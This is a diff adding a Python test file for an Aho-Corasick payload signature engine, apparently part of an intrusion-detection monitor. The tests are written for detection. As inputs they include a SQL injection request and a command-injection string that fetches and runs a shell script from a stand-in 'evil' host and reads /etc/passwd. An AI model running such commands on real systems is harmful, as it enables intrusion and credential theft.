@@ -0,0 +1,115 @@
+#!/usr/bin/env python3
+"""
+Test Aho-Corasick Payload Signature Matching
+"""
+
+import sys
+import os
+import random
+import tempfile
+sys.path.append(os.path.join(os.path.dirname(__file__), 'src', 'monitors'))
+
+from signature_engine import AhoCorasick, Signature, SignatureEngine, load_signatures
+
+def naive_matches(patterns, data):
+    """Sorted (end offset, pattern id) of every case-insensitive occurrence."""
+    data = data.lower()
+    found = []
+    for pattern_id, pattern in enumerate(patterns):
+        pattern = pattern.lower()
+        start = data.find(pattern)
+        while start != -1:
+            found.append((start + len(pattern), pattern_id))
+            start = data.find(pattern, start + 1)
+    return sorted(found)
+
+def scan_chunks(automaton, chunks):
+    """Scan chunks carrying the state across, as the flow extractor does."""
+    found, state, offset = [], 0, 0
+    for chunk in chunks:
+        # Byte by byte within the chunk, to record where each match ends
+        for i in range(len(chunk)):
+            matches, state = automaton.scan(chunk[i:i + 1], state)
+            found.extend((offset + i + 1, pattern_id) for pattern_id in matches)
+        offset += len(chunk)
+    return sorted(found)
+
+def test_signature_matching():
+    print("=== Signature Matching Test ===")
+
+    engine = SignatureEngine()
+    payload = b"GET /index.php?id=1' OR '1'='1 UNION SELECT password FROM users HTTP/1.1"
+    matches, _ = engine.scan(payload)
+    names = sorted(signature.name for signature in matches)
+    print(f"   Matches: {names}")
+    assert names == ['sqli_or_1_1', 'sqli_union_select']
+
+    # Overlapping patterns and patterns that are suffixes of others
+    automaton = AhoCorasick([b'he', b'she', b'his', b'hers'])
+    matches, _ = automaton.scan(b'ushers')
+    assert sorted(matches) == [0, 1, 3]
+    matches, _ = automaton.scan(b'HiS ShE')
+    assert sorted(matches) == [0, 1, 2]
+
+    try:
+        AhoCorasick([b'ok', b''])
+        assert False, "empty pattern accepted"
+    except ValueError:
+        pass
+
+    print("✅ Overlapping and case-insensitive patterns match!")
+
+def test_signature_scan_boundaries():
+    print("=== Signature Scan Boundary Test ===")
+
+    engine = SignatureEngine()
+    payload = b"cmd=wget http://evil/x.sh;/bin/sh x.sh; cat ../../etc/passwd"
+    expected, _ = engine.scan(payload)
+    expected = sorted(signature.name for signature in expected)
+    assert expected == ['cmd_bin_sh', 'cmd_etc_passwd', 'cmd_wget_pipe', 'path_traversal']
+
+    # Every split point, carrying the automaton state, finds the same matches
+    for split in range(len(payload) + 1):
+        first, state = engine.scan(payload[:split])
+        second, _ = engine.scan(payload[split:], state)
+        assert sorted(signature.name for signature in first + second) == expected, split
+
+    # Random patterns and data against a naive search, scanned in random chunks
+    rng = random.Random(7)
+    alphabet = b'abcAB/.('
+    patterns = [bytes(rng.choice(alphabet) for _ in range(rng.randint(1, 5))) for _ in range(40)]
+    automaton = AhoCorasick(patterns)
+    for _ in range(30):
+        data = bytes(rng.choice(alphabet + b'xyz') for _ in range(rng.randint(0, 200)))
+        cuts = sorted(rng.sample(range(len(data) + 1), min(len(data) + 1, 4)))
+        chunks = [data[a:b] for a, b in zip([0] + cuts, cuts + [len(data)])]
+        assert scan_chunks(automaton, chunks) == naive_matches(patterns, data)
+        whole, _ = automaton.scan(data)
+        assert sorted(whole) == sorted(pattern_id for _, pattern_id in naive_matches(patterns, data))
+
+    print(f"   Stats: {engine.stats()}")
+    print("✅ Matches spanning chunk boundaries are found exactly once!")
+
+def test_signature_file():
+    print("=== Signature File Test ===")
+
+    with tempfile.TemporaryDirectory() as tmp:
+        path = os.path.join(tmp, 'signatures.txt')
+        with open(path, 'w') as f:
+            f.write("# name,category,pattern\n")
+            f.write("\n")
+            f.write("nop_sled,shellcode,\\x90\\x90\\x90\\x90\n")
+            f.write("comma_pattern,custom,a,b\n")
+        signatures = load_signatures(path)
+
+    assert signatures == [Signature('nop_sled', 'shellcode', b'\x90' * 4), Signature('comma_pattern', 'custom', b'a,b')]
+    engine = SignatureEngine(signatures)
+    matches, _ = engine.scan(b'\x00' + b'\x90' * 5 + b' A,B')
+    assert [signature.name for signature in matches] == ['nop_sled', 'nop_sled', 'comma_pattern']
+
+    print("✅ Signature files with escapes load and match!")
+
+if __name__ == "__main__":
+    test_signature_matching()
+    test_signature_scan_boundaries()
+    test_signature_file()